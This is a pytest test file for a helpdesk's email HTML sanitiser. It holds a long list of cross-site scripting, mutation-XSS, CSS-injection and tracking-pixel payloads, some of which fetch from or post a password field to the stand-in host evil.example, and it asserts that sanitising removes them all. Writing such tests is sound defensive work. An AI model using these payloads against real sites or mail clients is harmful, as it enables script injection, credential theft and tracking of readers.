"""HTML of strangers shows and does nothing else."""

from __future__ import annotations

import re
import time

import pytest
from selectolax.lexbor import LexborHTMLParser

from helpdesk.mail.sanitise import sanitise

HARMLESS_TAGS = """
    -text html head body a abbr address article aside b bdi bdo big blockquote br caption center cite
    code col colgroup dd del details dfn div dl dt em figcaption figure font footer h1 h2 h3 h4 h5 h6
    header hr i img ins kbd li main mark nav ol p pre q s samp section small span strike strong sub
    summary sup table tbody td tfoot th thead tr tt u ul var wbr
""".split()

CALLS = ["alert(1)", "fetch('//evil.example')"]
ATTACKS = [
    "<script>{call}</script>",
    "<script src=//evil.example/x.js></script>",
    "<SCRIPT/x>{call}</SCRIPT>",
    "<scr<script>ipt>{call}</script>",
    "<img src=x onerror={call}>",
    "<img src=x onerror\n=\n{call}>",
    "<img/src=x/onerror={call}>",
    '<img src="x` `<script>{call}</script>"` `>',
    "<body onload={call}>",
    "<svg onload={call}>",
    "<svg><script>{call}</script></svg>",
    "<svg><a xlink:href='javascript:{call}'><text>x</text></a></svg>",
    "<svg><style><img src=x onerror={call}></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror={call}>",
    "<math href='javascript:{call}'>x</math>",
    "<noscript><p title='</noscript><img src=x onerror={call}>'>",
    "<textarea><img title='</textarea><img src=x onerror={call}>'>",
    "<title><img title='</title><img src=x onerror={call}>'>",
    "<xmp><img title='</xmp><img src=x onerror={call}>'>",
    "<!--><img src=x onerror={call}>-->",
    "<![CDATA[<img src=x onerror={call}>]]>",
    "<?xml version='1.0'?><img src=x onerror={call}>",
    "<a href='javascript:{call}'>x</a>",
    "<a href='JaVaScRiPt:{call}'>x</a>",
    "<a href=' \x01javascript:{call}'>x</a>",
    "<a href='java\tscript:{call}'>x</a>",
    "<a href='java\u2028script:{call}'>x</a>",
    "<a href='&#106;avascript&colon;{call}'>x</a>",
    "<a href='vbscript:{call}'>x</a>",
    "<a href='data:text/html,<script>{call}</script>'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='//evil.example/{call}'>x</a>",
    "<a href='file:///etc/passwd' onclick='{call}'>x</a>",
    "<a href='http://evil.example/\" onmouseover=\"{call}'>x</a>",
    "<iframe src='javascript:{call}'></iframe>",
    "<iframe srcdoc='<script>{call}</script>'></iframe>",
    "<object data='javascript:{call}'></object>",
    "<embed src='javascript:{call}'>",
    "<applet code=x></applet>",
    "<form action='http://evil.example'><input name=password><button formaction='javascript:{call}'>x</button></form>",
    "<isindex action='javascript:{call}' type=submit>",
    "<select onfocus={call} autofocus><option>x</select>",
    "<video><source onerror='{call}'></video>",
    "<audio src=x onerror={call}>",
    "<details open ontoggle={call}>x</details>",
    "<marquee onstart={call}>x</marquee>",
    "<meta http-equiv=refresh content='0;url=javascript:{call}'>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<base href='http://evil.example/'><a href='x'>x</a>",
    "<link rel=stylesheet href='http://evil.example/x.css'>",
    "<style>@import 'http://evil.example/x.css'; body{{background:url(http://evil.example)}}</style>",
    "<p style='background:url(http://evil.example/x)'>x</p>",
    "<p style='background:u\\72l(http://evil.example/x)'>x</p>",
    "<p style='background-image:url(\"javascript:{call}\")'>x</p>",
    "<p style='width:expression({call})'>x</p>",
    "<p style='width:exp/**/ression({call})'>x</p>",
    "<p style='-moz-binding:url(http://evil.example/x)'>x</p>",
    "<p style='behavior:url(x.htc)'>x</p>",
    "<p style='background:image-set(\"http://evil.example/x\" 1x)'>x</p>",
    "<p style='font-family:x;src:url(http://evil.example/x)'>x</p>",
    "<p style='position:fixed;top:0;left:0;width:100%;height:100%'>x</p>",
    "<p style='background:var(--x,url(http://evil.example))'>x</p>",
    "<td background='http://evil.example/x'>x</td>",
    "<table background='http://evil.example/x'><tr><td>x</table>",
    "<img src='http://evil.example/pixel.gif' width=1 height=1>",
    "<img srcset='http://evil.example/x 1x'>",
    "<img lowsrc='http://evil.example/x' dynsrc='http://evil.example/x'>",
    "<picture><source srcset='http://evil.example/x'><img src=x></picture>",
    "<img src='data:image/svg+xml;base64,PHN2Zz4='>",
    "<img src='//evil.example/x'>",
    "<img src='\\\\evil.example\\x'>",
    "<input type=image src='http://evil.example/x'>",
    "<a ping='http://evil.example' href='http://shop.example'>x</a>",
    "<portal src='http://evil.example'></portal>",
    "<template><script>{call}</script></template>",
    "<frameset><frame src='javascript:{call}'></frameset>",
    "<div id=location name=location class=x data-x={call} is=x>x</div>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={call}>",
    "<img alt='<x' title='/><img src=x onerror={call}>'>",
    "<a href='cid:x'>x</a>",
    "\x00<scr\x00ipt>{call}</scr\x00ipt>",
]


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize(
    "frame", ["{}", "<div><table><tr><td>{}</td></tr></table></div>", "<p title='{}'>{}", "</div></body>{}"]
)
def test_nothing_that_runs_or_fetches_is_left(attack, frame):
    for call in CALLS:
        html = sanitise(frame.replace("{}", attack.replace("{call}", call).replace("{{", "{").replace("}}", "}")))
        assert sanitise(html) == html
        page = LexborHTMLParser(html)
        for node in page.css("*"):
            assert node.tag in HARMLESS_TAGS
            for name, value in node.attributes.items():
                assert not name.startswith("on")
                assert name not in {
                    "id",
                    "name",
                    "class",
                    "srcset",
                    "background",
                    "action",
                    "formaction",
                    "ping",
                    "srcdoc",
                }
                if name == "href":
                    assert re.match(r"https?://|mailto:", value or "")
                if name == "src":
                    assert re.match(r"cid:|data:image/(png|jpeg|gif|webp);", value or "")
                if name == "style":
                    assert not re.search(r"url|\\|expression|position|@|var\(|image-set", value or "")


def test_what_makes_a_mail_readable_stays():
    html = (
        '<h1 style="color: #c00; text-align: center">Hello</h1><ul><li>one</li></ul>'
        '<table width="600" bgcolor="#ffffff"><tbody><tr><td colspan="2">cell</td></tr></tbody></table>'
    )
    assert sanitise(html) == html


def test_links_open_elsewhere_and_tell_nothing():
    html = sanitise(
        '<a href="https://shop.example/a b?x=1&amp;y=2">shop</a> <a href="mailto:ann@walker.example">Ann</a>'
    )
    first, second = LexborHTMLParser(html).css("a")
    assert first.attributes == {
        "href": "https://shop.example/a%20b?x=1&y=2",
        "target": "_blank",
        "rel": "noopener noreferrer nofollow",
    }
    assert second.attributes["href"] == "mailto:ann@walker.example"


def test_pictures_of_the_mail_get_the_address_of_their_attachment():
    addresses = {"boot@x": "/attachments/7/"}
    html = '<img src="cid:boot@x" alt="boot"><img src="cid:other">'
    assert sanitise(html, addresses.get) == '<img src="/attachments/7/" alt="boot"><img>'
    assert sanitise(html) == '<img src="cid:boot@x" alt="boot"><img src="cid:other">'


def test_pictures_from_elsewhere_stay_only_when_asked_for():
    html = '<img src="https://news.example/banner.png">'
    assert sanitise(html) == "<img>"
    assert sanitise(html, remote_images=True) == html


@pytest.mark.parametrize(
    "html",
    [
        "<div>" * 100_000 + "still here",
        "".join(f"<b title={n}><p>" for n in range(20_000)) + "still here",
        "<a " + " ".join(f"a{n}" for n in range(100_000)) + ">still here",
        "<p>still here</p>" * 100_000,
    ],
)
def test_markup_made_to_take_forever_is_shown_as_its_text(html):
    start = time.process_time()
    clean = sanitise(html)
    assert time.process_time() - start < 2
    assert clean.startswith("<pre>")
    assert "still here" in clean
